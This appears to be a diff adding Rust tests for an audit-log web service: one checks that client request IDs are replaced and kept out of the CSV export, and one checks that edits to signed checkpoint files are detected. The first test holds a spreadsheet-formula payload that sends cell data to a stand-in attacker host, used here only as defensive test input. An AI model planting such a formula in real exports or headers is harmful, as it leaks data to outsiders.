@@ -97,3 +97,64 @@ async fn the_export_is_csv_for_the_monthly_review_and_is_itself_logged() {
     assert!(lines.iter().any(|l| l.contains(",granskare,login,user,")));
     assert!(lines.last().unwrap().contains(",export,access_log,"), "the export's own row is in it");
 }
+
+#[tokio::test]
+async fn the_server_makes_its_own_request_id_and_a_clients_lands_nowhere_unless_it_is_a_short_token() {
+    let app = TestApp::new();
+    app.add_user("granskare", &[Role::Auditor]);
+    let auditor = app.login("granskare").await;
+    let huge = "a".repeat(60 * 1024);
+    let formula = "=HYPERLINK(\"http://angripare.example/?\"&A1,\"Klicka\")";
+    for client_id in [huge.as_str(), formula, "klientens-id.42"] {
+        let request = TestApp::request(axum::http::Method::GET, "/audit", Some(&auditor))
+            .header("x-request-id", client_id)
+            .body(axum::body::Body::empty())
+            .unwrap();
+        let answer = app.send(request).await;
+        assert_eq!(answer.status, StatusCode::OK);
+        let id = answer.headers["x-request-id"].to_str().unwrap();
+        assert!(uuid::Uuid::parse_str(id).is_ok() && id != client_id, "the server's own id: {id}");
+    }
+    let ids: Vec<Option<String>> = app
+        .db
+        .store
+        .with_conn(|conn| {
+            use diesel::prelude::*;
+            use etablera_store::schema::access_log;
+            Ok(access_log::table.select(access_log::request_id).load(conn)?)
+        })
+        .unwrap();
+    assert!(
+        ids.iter().flatten().all(|id| uuid::Uuid::parse_str(id).is_ok()),
+        "every logged request carries the server's id, none the client's: {ids:?}"
+    );
+    let today = chrono::Utc::now().date_naive();
+    let csv = app.get(&format!("/audit/export.csv?from={today}&to={today}"), Some(&auditor)).await;
+    assert!(!csv.body.contains("HYPERLINK") && !csv.body.contains(&huge[..100]));
+}
+
+#[tokio::test]
+async fn the_verification_holds_the_chain_to_the_servers_signed_checkpoints() {
+    let dir = tempfile::tempdir().unwrap();
+    let key = dir.path().join("nyckel");
+    std::fs::write(&key, "7e".repeat(32)).unwrap();
+    let file = etablera_store::access::checkpoints::CheckpointFile::open(&dir.path().join("punkter"), &key).unwrap();
+    let config = etablera_web::WebConfig { checkpoints: Some(file.clone()), ..etablera_web::WebConfig::default() };
+    let app = TestApp::with_config(config);
+    app.add_user("granskare", &[Role::Auditor]);
+    let auditor = app.login("granskare").await;
+    let taken = app.db.store.with_conn(|conn| file.take(conn, &etablera_store::testing::cli())).unwrap().unwrap();
+    assert!(matches!(taken, etablera_store::access::checkpoints::Taken::Added(_)));
+    let page = app.get("/audit/verify", Some(&auditor)).await;
+    assert!(page.body.contains("Kedjan stämmer med 1 signerade kontrollpunkter."), "{}", page.body);
+    let json = app.get("/api/v1/access-log/verify", Some(&auditor)).await.json();
+    assert_eq!((json["intact"].as_bool(), json["checkpoints_checked"].as_u64()), (Some(true), Some(1)));
+
+    // Someone edits the checkpoint file: nothing in it can be trusted any more.
+    let text = std::fs::read_to_string(&file.path).unwrap();
+    std::fs::write(&file.path, text.replace("rows=", "rows=1")).unwrap();
+    let page = app.get("/audit/verify", Some(&auditor)).await;
+    assert!(page.body.contains("Kontrollpunkterna går inte att lita på: rad 1 i kontrollpunktsfilen"), "{}", page.body);
+    let json = app.get("/api/v1/access-log/verify", Some(&auditor)).await.json();
+    assert_eq!(json["intact"], false);
+}
